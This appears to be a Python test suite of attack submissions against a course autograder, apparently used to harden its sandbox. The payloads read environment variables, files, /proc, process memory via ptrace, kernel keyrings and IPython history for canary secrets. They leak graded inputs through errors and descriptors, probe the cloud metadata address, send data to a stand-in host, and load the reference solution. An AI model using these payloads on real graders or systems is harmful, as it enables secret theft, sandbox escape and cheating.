"""Attacks that look: for graded inputs, the reference, the bank, secrets, other students' work."""

from llmr_ref.grading.attack import attack

# Everything that was found is written down wherever a page may show it: in prints and in messages.
SPELL = """
def numbers(*values, depth=0):
    import torch
    said = []
    for value in values:
        if isinstance(value, torch.Tensor) and value.numel() >= 3:
            said.append(",".join(f"{x:.2f}" for x in value.detach().double().flatten()[:8].tolist()))
        elif isinstance(value, dict) and depth < 6:
            said += numbers(*value.values(), depth=depth + 1)
        elif isinstance(value, (list, tuple)) and depth < 6:
            said += numbers(*value, depth=depth + 1)
    return said
"""


@attack("leak", "The message of an exception quotes the input.")
def input_in_message(hand):
    hand.answer(
        "softmax",
        SPELL
        + """
def NAME(x, dim=-1):
    raise ValueError(" ".join(numbers(x)))
""",
    )


@attack("leak", "The name of the exception's type is the input.")
def input_in_type_name(hand):
    hand.answer(
        "softmax",
        SPELL
        + """
def NAME(x, dim=-1):
    raise type(" ".join(numbers(x)), (Exception,), {})("no message")
""",
    )


@attack("leak", "Inputs are collected over the calls, and later calls quote all of them.")
def inputs_collected(hand):
    hand.answer(
        "softmax",
        SPELL
        + """
seen = []


def NAME(x, dim=-1):
    seen.extend(numbers(x))
    raise ValueError(" ".join(reversed(seen)))
""",
    )


@attack("leak", "Inputs are collected and come back as results, which cards show.")
def inputs_as_results(hand):
    hand.answer(
        "softmax",
        SPELL
        + """
seen = []


def NAME(x, dim=-1):
    seen.extend(numbers(x))
    return " ".join(reversed(seen))
""",
    )


@attack("leak", "A cell walks up the frames to the calls that wait and raises with what it finds.")
def calls_in_frames(hand):
    hand.answer(
        "softmax",
        SPELL
        + """
import gc
import sys

found = []
frame = sys._getframe()
while frame:
    found += numbers(dict(frame.f_locals))
    frame = frame.f_back
for held in gc.get_objects():
    if isinstance(held, dict) and "args" in held:
        found += numbers(held)


def NAME(x, dim=-1):
    return x


print(found)
raise ValueError(" ".join(dict.fromkeys(found)))
""",
    )


@attack("leak", "Inputs become the message of a forged cell error, sent while the calls run.")
def forged_cell_error(hand):
    hand.answer(
        "softmax",
        SPELL
        + """
import json
import os
import struct


def NAME(x, dim=-1):
    said = {"cell": 0, "type": "SyntaxError", "message": " ".join(numbers(x))}
    block = b"E" + json.dumps(said).encode()
    for kind in (block, b"C" + struct.pack("<I", x.numel() % 7)):
        for descriptor in range(3, 64):
            try:
                os.write(descriptor, struct.pack("<I", len(kind)) + kind)
            except OSError:
                pass
    return x
""",
    )


@attack(
    "leak", "Graded calls are asked for early, read from the pipe, and told as results of practice."
)
def graded_calls_fetched(hand):
    hand.answer(
        "softmax",
        SPELL
        + """
import os
import select
import struct


def fetch():
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, struct.pack("<I", 1) + b"G")
        except OSError:
            pass
    got = b""
    for descriptor in range(3, 64):
        try:
            while select.select([descriptor], [], [], 0.3)[0]:
                chunk = os.read(descriptor, 1 << 16)
                if not chunk:
                    break
                got += chunk
        except (OSError, ValueError):
            pass
    return got


got = fetch()
if got:
    import safetensors.torch
    tensors = safetensors.torch.load(got[4:])
    said = " ".join(numbers(tensors))
    print(said)
    raise SyntaxError(said)


def NAME(x, dim=-1):
    raise ValueError(" ".join(numbers(x)))
""",
    )


@attack("leak", "What one exercise sees is left in files for the next one, which prints it.")
def inputs_through_files(hand):
    hand.answer(
        "softmax",
        SPELL
        + """
import glob
import os

places = ["/scratch", "/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~"), "."]
for place in places:
    for path in glob.glob(place + "/seen*"):
        print(open(path).read())
        raise ValueError(open(path).read())


def NAME(x, dim=-1):
    for place in places:
        try:
            with open(place + "/seen", "a") as file:
                file.write(" ".join(numbers(x)))
        except OSError:
            pass
    return x
""",
    )


@attack("leak", "Everything is written to every descriptor, standard output and standard error.")
def inputs_to_every_descriptor(hand):
    hand.answer(
        "softmax",
        SPELL
        + """
import os
import sys
import warnings


def NAME(x, dim=-1):
    said = " ".join(numbers(x))
    print(said)
    print(said, file=sys.stderr)
    sys.__stdout__ and print(said, file=sys.__stdout__)
    warnings.warn(said)
    for descriptor in range(64):
        try:
            os.write(descriptor, said.encode() + b"\\n")
        except OSError:
            pass
    sys.exit(said)
""",
    )


@attack("leak", "Names of weights and keys of results carry the inputs.")
def inputs_as_names(hand):
    hand.answer(
        "MultiHeadSelfAttention",
        SPELL
        + """
import torch
from torch import nn

seen = []


class NAME(nn.Module):
    def __init__(self, *args, **kwargs):
        super().__init__()
        for said in seen:
            self.register_parameter(said.replace(".", "_")[:60], nn.Parameter(torch.zeros(1)))

    def load_state_dict(self, state, *args, **kwargs):
        seen.extend(numbers(dict(state)))

    def forward(self, x, *args, **kwargs):
        seen.extend(numbers(x))
        return {said: 1 for said in reversed(seen)}
""",
    )


FIND = """
import os

PREFIX = "llmr-" + "canary-"


def report(found):
    said = " ".join(sorted(set(found)))
    if said:
        print(said)
        raise ValueError(said)


def tokens(text):
    if isinstance(text, bytes):
        text = text.decode(errors="replace")
    return [text[i:i + len(PREFIX) + 16] for i in range(len(text)) if text.startswith(PREFIX, i)]
"""


@attack("leak", "The environment is read.")
def environment_read(hand):
    hand.before("softmax", FIND + "report(tokens(repr(dict(os.environ))))")


@attack(
    "leak",
    "Every file is opened: source, secret, gradebook, home, folders above, other submissions.",
)
def files_read(hand):
    hand.before(
        "softmax",
        FIND
        + """
found = []
starts = ["../" * levels or "." for levels in range(7)] + [os.path.expanduser("~"), "/root", "/home"]
for start in starts:
    for folder, folders, names in os.walk(start):
        if folder.count(os.sep) > start.count(os.sep) + 5 or len(found) > 50:
            folders.clear()
        folders[:] = [f for f in folders if f not in ("proc", "sys", "usr", "lib", "site-packages")]
        for name in names:
            if name.endswith((".ipynb", ".txt", ".md", ".db", "_secret", ".credentials", ".py")):
                try:
                    with open(os.path.join(folder, name), "rb") as file:
                        found += tokens(file.read(1 << 20))
                except OSError:
                    pass
report(found)
""",
    )


@attack("leak", "/proc tells about other processes: their environment, command lines and memory.")
def proc_read(hand):
    hand.before(
        "softmax",
        FIND
        + """
found = []
for process in [p for p in os.listdir("/proc") if p.isdigit()] + ["self", "1"]:
    for name in ("environ", "cmdline", "maps", "mountinfo"):
        try:
            with open(f"/proc/{process}/{name}", "rb") as file:
                found += tokens(file.read(1 << 20))
        except OSError:
            pass
    for name in ("cwd", "root"):
        try:
            for entry in os.listdir(f"/proc/{process}/{name}"):
                if entry.endswith(("_secret", ".md", ".txt")):
                    found += tokens(open(f"/proc/{process}/{name}/{entry}", "rb").read())
        except OSError:
            pass
report(found)
""",
    )


@attack("leak", "The memory of the process is searched for what others left in it before the fork.")
def memory_scanned(hand):
    hand.before(
        "softmax",
        FIND
        + """
import ctypes
import gc
import sys

libc = ctypes.CDLL(None, use_errno=True)
read_end, write_end = os.pipe()
os.set_blocking(write_end, False)


def page(address, size=4096):  # a pipe refuses what is not mapped, where a read would crash
    if libc.write(write_end, ctypes.c_void_p(address), size) != size:
        return b""
    return os.read(read_end, size)


found, pages = [], set()
for held in gc.get_objects():
    start = id(held) & ~0xFFFFF
    pages.update(range(start, start + 0x100000, 4096))
prefix = PREFIX.encode()
for address in sorted(pages)[:60_000]:
    data = page(address)
    at = data.find(prefix)
    while at >= 0:
        found.append(data[at:at + len(prefix) + 16].decode(errors="replace"))
        at = data.find(prefix, at + 1)
frame = sys._getframe()
while frame:
    found += tokens(repr(frame.f_locals)[:1_000_000])
    frame = frame.f_back
report([f for f in found if len(f) == len(PREFIX) + 16 and f[len(PREFIX):].isalnum()])
""",
    )


@attack("leak", "Parents and neighbours are read through ptrace and process_vm_readv.")
def other_memory_read(hand):
    hand.before(
        "softmax",
        FIND
        + """
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
got = []
for process in [os.getppid(), *range(1, 300)]:
    if process in (0, os.getpid()):
        continue
    if libc.ptrace(16, process, 0, 0) == 0:  # PTRACE_ATTACH
        got.append(f"attached to {process}")
        libc.ptrace(17, process, 0, 0)
if got:
    try:
        maps = open(f"/proc/{os.getppid()}/maps").read()
        memory = open(f"/proc/{os.getppid()}/mem", "rb", 0)
        for line in maps.splitlines():
            span, rights = line.split()[:2]
            begin, end = (int(x, 16) for x in span.split("-"))
            if rights.startswith("rw") and end - begin < 1 << 26:
                memory.seek(begin)
                got += tokens(memory.read(end - begin))
    except OSError:
        pass
    report(got)
""",
    )


@attack("leak", "Keys of the person who grades, through the keyrings that processes inherit.")
def keyrings_read(hand):
    hand.before(
        "softmax",
        FIND
        + """
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
syscall = libc.syscall
syscall.restype = ctypes.c_long
keyctl, found = 250, []
for ring in (-1, -2, -3, -4, -5):
    room = ctypes.create_string_buffer(4096)
    size = syscall(keyctl, 11, ring, room, len(room))  # KEYCTL_READ
    for at in range(0, max(0, min(size, 4096)), 4):
        key = int.from_bytes(room.raw[at:at + 4], "little")
        held = ctypes.create_string_buffer(4096)
        if syscall(keyctl, 11, key, held, len(held)) > 0:
            found += tokens(held.raw)
report(found)
""",
    )


@attack("leak", "Whatever was open before the fork or the start is read through its descriptor.")
def descriptors_read(hand):
    hand.before(
        "softmax",
        FIND
        + """
import fcntl
import select

found = []
for descriptor in range(3, 1024):
    try:
        os.fstat(descriptor)
        fcntl.fcntl(descriptor, fcntl.F_SETFL, os.O_NONBLOCK)
        found += tokens(os.pread(descriptor, 1 << 16, 0))
    except OSError:
        pass
    try:
        for entry in os.listdir(descriptor):
            found += tokens(entry)
            with open(os.open(entry, os.O_RDONLY, dir_fd=descriptor), "rb") as file:
                found += tokens(file.read(1 << 16))
    except OSError:
        pass
report(found)
""",
    )


@attack(
    "leak", "Sockets: the network, servers of this machine, abstract names, and what they answer."
)
def sockets_opened(hand):
    hand.answer(
        "softmax",
        """
        import socket

        reached = []
        for address in (("127.0.0.1", 8888), ("127.0.0.1", 22), ("169.254.169.254", 80)):
            try:
                socket.create_connection(address, timeout=0.3).close()
                reached.append(address)
            except OSError:
                pass
        for name in ("\\0/tmp/.X11-unix/X0", "/run/dbus/system_bus_socket"):
            try:
                with socket.socket(socket.AF_UNIX) as one:
                    one.settimeout(0.3)
                    one.connect(name)
                    reached.append(name)
            except OSError:
                pass
        try:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
                one.sendto(b"the answers", ("192.0.2.1", 53))
                reached.append("a datagram")
        except OSError:
            pass

        def NAME(x, dim=-1):
            return x
        """,
    )


@attack("raise", "The reference is imported under every name that it may have.")
def reference_imported(hand):
    hand.answer(
        "softmax",
        """
        import importlib

        def NAME(*args, **kwargs):
            for name in ("attention", "grading.exercises.softmax", "masks", "rope", "layers"):
                try:
                    module = importlib.import_module(f"llmr_ref.{name}")
                    return getattr(module, "NAME")(*args, **kwargs)
                except (ImportError, AttributeError):
                    pass
            return None
        """,
    )


@attack("raise", "The reference is found on the disk, where an editable installation points to it.")
def reference_on_disk(hand):
    hand.answer(
        "softmax",
        """
        import glob
        import site
        import sys

        def NAME(*args, **kwargs):
            places = [*sys.path, *site.getsitepackages(), "../../..", "../../../..", "/"]
            for place in list(places):
                for name in glob.glob(f"{place}/*editable*") + glob.glob(f"{place}/*.pth"):
                    try:
                        places += [w for w in open(name).read().replace("'", "\\n").split("\\n") if "/" in w]
                    except OSError:
                        pass
            for place in places:
                for path in glob.glob(f"{place}/llmr_ref/attention.py") + glob.glob(f"{place}/attention.py"):
                    space = {"__name__": "found"}
                    try:
                        exec(open(path).read(), space)
                        return space["NAME"](*args, **kwargs)
                    except Exception:
                        pass
            return None
        """,
    )


@attack("raise", "The solution is taken from the source notebook of the course.")
def solution_on_disk(hand):
    hand.answer(
        "softmax",
        """
        import glob
        import json

        def NAME(*args, **kwargs):
            for levels in range(8):
                for path in glob.glob("../" * levels + "source/*/*.ipynb"):
                    for cell in json.load(open(path))["cells"]:
                        code = "".join(cell["source"])
                        if "def NAME(" in code:
                            space = dict(globals())
                            exec(code, space)
                            return space["NAME"](*args, **kwargs)
            return None
        """,
    )


@attack(
    "leak", "Classmates' work is looked for in the history, the cells and the cache of IPython."
)
def history_read(hand):
    hand.before(
        "softmax",
        FIND
        + """
import glob
import linecache
import sys

found = tokens(repr(globals().get("In", [])) + repr(globals().get("_ih", [])))
found += tokens(repr(linecache.cache)[:2_000_000])
for path in glob.glob(os.path.expanduser("~/**/history.sqlite"), recursive=True):
    found += tokens(open(path, "rb").read())
shell = globals().get("get_ipython", lambda: None)()
history = getattr(shell, "history_manager", None)
if history is not None:
    try:
        found += tokens(repr(list(history.search("*"))))
    except Exception:
        pass
report(found)
""",
    )
